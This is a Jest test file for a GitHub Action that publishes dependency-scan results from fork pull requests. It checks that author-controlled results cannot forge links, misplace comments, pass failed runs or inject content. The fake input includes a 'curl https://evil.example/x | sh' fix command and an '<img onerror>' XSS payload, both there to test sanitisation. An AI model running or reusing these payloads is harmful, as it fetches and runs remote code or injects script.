import { cpSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { main } from '../../../actions/report/main.ts';
import { main as scan } from '../../../actions/scan/main.ts';
import { ADVISORIES, actionHost, SHOP, written } from '../../support/action-host.ts';
import { addPull } from '../../support/github/state.ts';
import { type GitHubServer, startGitHub } from '../../support/github-server.ts';
import { temporaryFolder } from '../../support/programs.ts';
import { runOf } from '../../support/released.ts';

const HEAD = 'b'.repeat(40);
const FORGED = 'f'.repeat(40);
const EVIL = 'https://evil.example/x';

type Json = Readonly<Record<string, unknown>>;

let results: string;
let github: GitHubServer;
beforeAll(async () => {
  const host = actionHost({ path: SHOP, advisories: ADVISORIES });
  await scan(host);
  results = host.folder;
  github = await startGitHub({
    repository: 'octo/app',
    permissions: { 'pull-requests': 'write', checks: 'write' },
  });
});
afterAll(() => github.close());

/** Publishes results that the author of a fork changed, as fork-comment.yml does. */
async function publish(
  change: (from: string) => void,
  { conclusion = 'failure', login = 'octocat', fork = 'fork/app', checkRun = 'false' } = {},
) {
  const from = temporaryFolder('published');
  cpSync(results, from, { recursive: true });
  change(from);
  github.state.pulls.clear();
  github.state.comments.clear();
  addPull(github.state, { headSha: HEAD, headRepository: fork, author: { login, type: 'User' } });
  const workflow_run = {
    id: 41,
    event: 'pull_request',
    conclusion,
    head_sha: HEAD,
    head_branch: 'feature',
    head_repository: { full_name: fork },
    pull_requests: [],
  };
  const base = { sha: 'a'.repeat(40), repository: 'octo/app', eventName: 'workflow_run' };
  const context = { ...runOf(github.url), ...base, payload: { workflow_run } };
  const inputs = { from, 'github-token': github.token, 'check-run': checkRun };
  const host = actionHost(inputs, { kind: 'actions', context });
  await main(host);
  const comments = [...github.state.comments.values()];
  return { decision: host.heard.outputs.get('decision'), comments, heard: host.heard };
}

/** Replaces a file with a changed copy. */
function edit(from: string, name: string, change: (value: Json) => Json): void {
  writeFileSync(join(from, name), JSON.stringify(change(written({ folder: from }, name))));
}

/** Sets the commit that the scan claims to have read. */
function claim(from: string, commit: string, extra: Json = {}): void {
  edit(from, 'findings.json', (file) => ({
    ...file,
    source: { ...(file['source'] as Json), checkout: { root: '', commit, ...extra } },
  }));
}

const passing = (value: Json): Json => ({ ...value, outcome: 'pass', reasons: [] });

describe('the results of an earlier pull request run', () => {
  it.each([
    ['a fork', 'fork/app', 'octocat'],
    ['Dependabot', 'octo/app', 'dependabot[bot]'],
  ])("from %s appear in a comment on the run's pull request", async (_name, fork, login) => {
    const { comments, decision } = await publish((from) => claim(from, HEAD), { fork, login });
    expect(comments).toHaveLength(1);
    expect(comments[0]?.issue).toBe(7);
    expect(comments[0]?.body).toContain('CVE-2021-44906');
    expect(comments[0]?.body).toContain('The author of the pull request controls these results');
    expect(decision).toBe('fail');
  });

  it('do not determine the commit or the repository that links point to', async () => {
    const { comments } = await publish((from) =>
      claim(from, FORGED, { mergeOf: HEAD, repository: 'evil/app' }),
    );
    expect(comments[0]?.body).toContain(`/commit/${HEAD}`);
    expect(comments[0]?.body).toContain(`/octo/app/blob/${HEAD}/`);
    expect(comments[0]?.body).not.toMatch(new RegExp(`${FORGED}|evil`));
  });

  it('do not cause a comment on a different pull request', async () => {
    const other = 'c'.repeat(40);
    const { comments, heard } = await publish((from) => {
      addPull(github.state, { number: 8, headSha: other, headRepository: 'fork/app' });
      claim(from, other, { ref: 'refs/pull/8/head' });
    });
    expect(comments).toEqual([]);
    expect(heard.annotations.map(({ message }) => message).join()).toContain('No comment');
  });

  it.each(['failure', 'cancelled', 'timed_out', 'action_required'])(
    'do not lead to the outcome `pass` if the run ended with %s',
    async (conclusion) => {
      const { comments, decision } = await publish(
        (from) => {
          claim(from, HEAD);
          edit(from, 'decision.json', passing);
        },
        { conclusion },
      );
      expect(decision).toBe('error');
      expect(comments[0]?.body).toContain(`its conclusion is ${conclusion.replace('_', '&#95;')}`);
    },
  );

  it('can lead to the outcome `pass` if the run succeeded', async () => {
    const { decision } = await publish(
      (from) => {
        claim(from, HEAD);
        edit(from, 'decision.json', passing);
      },
      { conclusion: 'success' },
    );
    expect(decision).toBe('pass');
  });

  it('do not create a check run, which branch protection could require', async () => {
    const { heard } = await publish(
      (from) => {
        claim(from, HEAD);
        edit(from, 'decision.json', passing);
      },
      { conclusion: 'success', checkRun: 'true' },
    );
    expect(heard.infos.join('\n')).toContain('No check run: The author of the pull request');
    expect(github.state.checkRuns.size).toBe(0);
  });

  it('are shown without any command, link or policy line that their author chose', async () => {
    const { comments } = await publish((from) => {
      claim(from, HEAD);
      edit(from, 'findings.json', (file) => ({
        ...file,
        findings: (file['findings'] as Json[]).map((finding) => ({ ...finding, url: EVIL })),
        fixes: (file['fixes'] as Json[]).map((fix) => ({ ...fix, command: `curl ${EVIL} | sh` })),
      }));
      edit(from, 'decision.json', (file) => ({
        ...file,
        reasons: (file['reasons'] as Json[]).map((reason) => ({
          ...reason,
          accept: 'fail-on: never',
        })),
      }));
    });
    expect(comments[0]?.body).toContain('CVE-2021-44906');
    expect(comments[0]?.body).not.toMatch(/evil\.example|\| sh|fail-on: never/);
  });

  it('are shown as plain text if they contain markup', async () => {
    const { comments } = await publish((from) => {
      claim(from, HEAD);
      edit(from, 'decision.json', (file) => ({
        ...file,
        reasons: [
          {
            rule: 'max-severity',
            outcome: 'fail',
            message:
              '<img src=x onerror=alert(1)> @octocat [x](https://evil.example) \n# done <!-- -->',
            findings: [],
          },
        ],
      }));
    });
    const body = comments[0]?.body ?? '';
    expect(body).not.toMatch(/<img|\]\(https:\/\/evil|^# done/m);
    expect(body).not.toMatch(/(?<![\w`\u200b\\&;])@octocat/);
  });

  it.each<[string, (from: string) => void, RegExp]>([
    [
      'an unknown field',
      (from) => edit(from, 'decision.json', (file) => ({ ...file, pullRequest: 8 })),
      /decision\.json: .*unknown/,
    ],
    [
      'an unknown field in a finding',
      (from) =>
        edit(from, 'findings.json', (file) => ({
          ...file,
          findings: (file['findings'] as Json[]).map((each) => ({ ...each, html: '<b>' })),
        })),
      /findings\.json: .*unknown/,
    ],
    [
      'an unknown kind',
      (from) => edit(from, 'decision.json', (file) => ({ ...file, kind: 'assay/decision/v9' })),
      /decision\.json: the kind assay\/decision\/v9 is unknown/,
    ],
    [
      'a 200 MB file',
      (from) => truncateSync(join(from, 'findings.json'), 200_000_000),
      /findings\.json: larger than 33554432 bytes/,
    ],
  ])('cause an error if they contain %s', async (_name, change, message) => {
    const { decision, heard } = await publish((from) => {
      claim(from, HEAD);
      change(from);
    });
    expect(decision).toBe('error');
    expect(heard.finished.at(-1)?.message).toMatch(message);
  });
});
